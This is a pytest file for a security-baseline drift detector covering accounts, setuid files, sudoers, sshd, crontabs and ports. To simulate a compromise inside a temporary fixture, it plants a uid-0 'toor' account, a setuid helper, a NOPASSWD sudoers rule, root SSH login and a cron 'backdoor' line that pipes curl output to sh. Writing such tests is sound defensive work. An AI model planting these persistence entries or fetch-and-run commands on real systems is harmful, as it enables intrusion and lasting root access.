"""Security baseline: drift on a fixture root (accounts, setuid files, sudoers, sshd, crontabs, ports)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agent.cli import main
from agent.cli_baseline import NAMESPACE
from agent.store import Store, StoreKeyValue
from collector.baseline import (
    BaselineCollector,
    BaselineConfig,
    load_baseline,
    parse_passwd,
    parse_proc_net,
    parse_sshd_config,
    parse_sudoers,
    scan_setuid,
    sshd_items,
)
from collector.model import Sample
from collector.registry import Context, KeyValue, MemoryKeyValue, Paths

TCP = """\
  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1
   1: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 2 1
   2: 0100007F:0CEA 0100007F:D431 01 00000000:00000000 00:00000000 00000000     0        0 3 1
"""
TCP6 = """\
  sl  local_address                         remote_address                        st tx_queue rx_queue
   0: 00000000000000000000000000000000:0016 00000000000000000000000000000000:0000 0A 00000000:00000000
   1: 00000000000000000000000001000000:1F90 00000000000000000000000000000000:0000 0A 00000000:00000000
"""
UDP = """\
  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref
  10: 00000000:0044 00000000:0000 07 00000000:00000000 00:00000000 00000000     0        0 1 2 0 0
  11: 0A00020F:A1B2 08080808:0035 01 00000000:00000000 00:00000000 00000000     0        0 1 2 0 0
"""
PASSWD = "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"
GROUP = "root:x:0:\nsudo:x:27:alice\n"
SSHD = ("# comment\nPort 22\nPermitRootLogin no\nPasswordAuthentication no\n"
        "Include /etc/ssh/sshd_config.d/*.conf\n")


def make_root(tmp: Path) -> Paths:
    root, proc = tmp / "root", tmp / "proc"
    files = {
        "etc/passwd": PASSWD,
        "etc/group": GROUP,
        "etc/sudoers": "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\n",
        "etc/sudoers.d/ops": "%ops ALL=(ALL) /usr/bin/systemctl\n",
        "etc/ssh/sshd_config": SSHD,
        "etc/ssh/sshd_config.d/10-x11.conf": "X11Forwarding yes\n",
        "etc/crontab": "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        "usr/bin/ls": "binary",
        "usr/bin/passwd": "binary",
    }
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    os.chmod(root / "usr/bin/passwd", 0o4755)
    (proc / "net").mkdir(parents=True)
    for name, text in {"tcp": TCP, "tcp6": TCP6, "udp": UDP, "udp6": ""}.items():
        (proc / "net" / name).write_text(text)
    return Paths(root=root, proc=proc)


CONFIG = BaselineConfig(setuid_dirs=("/usr/bin",))


def collect(
    paths: Paths, kv: KeyValue, now: float, config: BaselineConfig = CONFIG
) -> tuple[list[Sample], Context]:
    ctx = Context(config=None, paths=paths, clock=lambda: now, state=kv)
    return list(BaselineCollector(config).collect(ctx)), ctx


def value(samples: list[Sample], name: str, **labels: str) -> float | None:
    for s in samples:
        if s.name == name and all(s.labels.get(k) == v for k, v in labels.items()):
            return s.value
    return None


def test_parsers() -> None:
    assert parse_proc_net(TCP, "tcp") == {"tcp 0.0.0.0:22", "tcp 127.0.0.1:3306"}
    assert parse_proc_net(TCP6, "tcp6") == {"tcp6 [::]:22", "tcp6 [::1]:8080"}
    assert parse_proc_net(UDP, "udp") == {"udp 0.0.0.0:68"}
    assert "alice uid=1000 gid=1000 home=/home/alice shell=/bin/bash" in parse_passwd(PASSWD)
    assert parse_sudoers("# c\n#includedir /etc/sudoers.d\nroot  ALL=(ALL)  ALL\n") == [
        "#includedir /etc/sudoers.d", "root ALL=(ALL) ALL"]
    settings = parse_sshd_config("PermitRootLogin no\npermitrootlogin yes\nPort=2222\nMatch User bob\n"
                                 "  PasswordAuthentication yes\n")
    assert settings["permitrootlogin"] == "no"  # the first value wins, as in sshd
    assert settings["port"] == "2222"
    assert settings["match user bob passwordauthentication"] == "yes"
    assert "passwordauthentication yes" in sshd_items({})  # OpenSSH's default is shown


def test_first_run_records_then_drift_is_reported_with_what_changed(tmp_path: Path) -> None:
    paths = make_root(tmp_path)
    kv = MemoryKeyValue()
    samples, ctx = collect(paths, kv, 100.0)
    assert value(samples, "opsagent_baseline_drift", area="accounts") == 0
    assert value(samples, "opsagent_baseline_items", area="setuid") == 1
    assert value(samples, "opsagent_baseline_items", area="ports") == 5
    assert not ctx.evidence
    assert "x11forwarding yes" in (load_baseline(kv, "sshd") or (set(), 0))[0]

    root = paths.root
    with open(root / "etc/passwd", "a") as f:
        f.write("toor:x:0:0::/root:/bin/sh\n")
    evil = root / "usr/bin/helper"
    evil.write_text("#!/bin/sh\n")
    evil.chmod(0o755)
    os.chmod(evil, os.stat(evil).st_mode | 0o4000)  # chmod u+s
    (root / "etc/ssh/sshd_config").write_text(SSHD.replace("PermitRootLogin no", "PermitRootLogin yes"))
    (root / "etc/sudoers.d/ops").write_text("%ops ALL=(ALL) NOPASSWD: ALL\n")
    (root / "etc/cron.d").mkdir()
    (root / "etc/cron.d/backdoor").write_text("* * * * * root curl http://x | sh\n")
    samples, ctx = collect(paths, kv, 200.0)
    assert value(samples, "opsagent_baseline_new_uid0_accounts") == 1
    assert value(samples, "opsagent_baseline_new_setuid_files") == 1
    assert value(samples, "opsagent_baseline_drift", area="accounts") == 1
    assert value(samples, "opsagent_baseline_drift", area="sshd") == 2  # the old value out, the new in
    assert value(samples, "opsagent_baseline_drift", area="ports") == 0
    assert value(samples, "opsagent_baseline_recorded_timestamp_seconds", area="accounts") == 100.0
    text = {e.labels["area"]: e.text for e in ctx.evidence}
    assert "+ toor uid=0 gid=0" in text["accounts"]
    assert "+ /usr/bin/helper mode=4755" in text["setuid"]
    assert "- permitrootlogin no" in text["sshd"] and "+ permitrootlogin yes" in text["sshd"]
    assert "+ /etc/sudoers.d/ops: %ops ALL=(ALL) NOPASSWD: ALL" in text["sudoers"]
    assert "+ /etc/cron.d/backdoor: * * * * * root curl http://x | sh" in text["crontabs"]
    # drift persists until someone accepts it
    samples, _ = collect(paths, kv, 300.0)
    assert value(samples, "opsagent_baseline_new_uid0_accounts") == 1


def test_setuid_scan_on_real_files_is_bounded(tmp_path: Path) -> None:
    d = tmp_path / "bin"
    (d / "sub").mkdir(parents=True)
    for i in range(50):
        (d / f"f{i}").write_text("")
    s = d / "sub" / "su"
    s.write_text("")
    os.chmod(s, 0o6755)
    (d / "link").symlink_to(s)
    full = scan_setuid(Path("/"), [str(d)], deadline=10, max_files=1000)
    assert full.complete and full.items == {f"{s} mode=6755 uid={os.getuid()} gid={os.getgid()}"}
    capped = scan_setuid(Path("/"), [str(d)], deadline=10, max_files=10)
    assert not capped.complete and "setuid_max_files" in capped.note


def test_incomplete_scan_reports_no_removals(tmp_path: Path) -> None:
    paths = make_root(tmp_path)
    kv = MemoryKeyValue()
    collect(paths, kv, 1.0)
    for i in range(20):
        (paths.root / f"usr/bin/z{i}").write_text("")
    samples, ctx = collect(paths, kv, 2.0, BaselineConfig(setuid_dirs=("/usr/bin",), setuid_max_files=3))
    assert value(samples, "opsagent_baseline_scan_complete", area="setuid") == 0
    assert value(samples, "opsagent_baseline_drift", area="setuid") == 0
    assert any("scan incomplete" in e.text for e in ctx.evidence)


def test_cli_accept_and_show(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    paths = make_root(tmp_path)
    state = tmp_path / "state.db"
    cfg = tmp_path / "opsagent.yaml"
    cfg.write_text(f"agent: {{state_file: {state}}}\ncollectors:\n  baseline:\n    setuid_dirs: [/usr/bin]\n")
    store = Store(state)
    kv = StoreKeyValue(store, NAMESPACE)
    collect(paths, kv, 1.0)
    with open(paths.root / "etc/passwd", "a") as f:
        f.write("toor:x:0:0::/root:/bin/sh\n")
    samples, _ = collect(paths, kv, 2.0)
    assert value(samples, "opsagent_baseline_new_uid0_accounts") == 1
    store.close()

    args = ["baseline", "accept", "-c", str(cfg), "--root", str(paths.root), "--proc", str(paths.proc)]
    assert main(args) == 0
    assert "baseline accepted" in capsys.readouterr().out
    assert main(["baseline", "show", "-c", str(cfg), "--area", "accounts"]) == 0
    assert "toor uid=0" in capsys.readouterr().out

    store = Store(state)
    samples, ctx = collect(paths, StoreKeyValue(store, NAMESPACE), 3.0)
    store.close()
    assert value(samples, "opsagent_baseline_new_uid0_accounts") == 0
    assert not ctx.evidence

    assert main(["baseline", "show", "-c", str(cfg), "--area", "nonsense"]) == 1
    assert "unknown area" in capsys.readouterr().err


def test_default_rules_new_uid0_is_p2_and_silences_the_accounts_drift(tmp_path: Path) -> None:
    from rule_harness import firing

    paths = make_root(tmp_path)
    kv = MemoryKeyValue()
    collect(paths, kv, 1.0)
    with open(paths.root / "etc/passwd", "a") as f:
        f.write("toor:x:0:0::/root:/bin/sh\n")
    (paths.root / "etc/ssh/sshd_config").write_text(SSHD.replace("Port 22", "Port 2222"))
    samples, _ = collect(paths, kv, 2.0)
    alerts = firing("baseline.yml", [samples], 1000.0)
    assert [a.level for a in alerts["BaselineNewUid0Account"]] == ["P2"]
    # the accounts drift is the same finding (inhibited); the sshd drift is its own P3
    assert {a.labels["area"]: a.level for a in alerts["BaselineDrift"]} == {"sshd": "P3"}


def test_default_rules_new_setuid_file_is_p2_and_silences_the_setuid_drift(tmp_path: Path) -> None:
    from rule_harness import firing

    paths = make_root(tmp_path)
    kv = MemoryKeyValue()
    collect(paths, kv, 1.0)
    evil = paths.root / "usr/bin/helper"
    evil.write_text("#!/bin/sh\n")
    os.chmod(evil, 0o4755)  # a new setuid-root file: a classic way to keep root
    (paths.root / "etc/cron.d").mkdir()
    (paths.root / "etc/cron.d/job").write_text("0 1 * * * root /usr/local/bin/backup\n")
    samples, _ = collect(paths, kv, 2.0)
    alerts = firing("baseline.yml", [samples], 1000.0)
    assert [a.level for a in alerts["BaselineNewSetuidFile"]] == ["P2"]
    # the setuid drift is the same finding (inhibited); the crontab drift is its own P3
    assert {a.labels["area"]: a.level for a in alerts["BaselineDrift"]} == {"crontabs": "P3"}
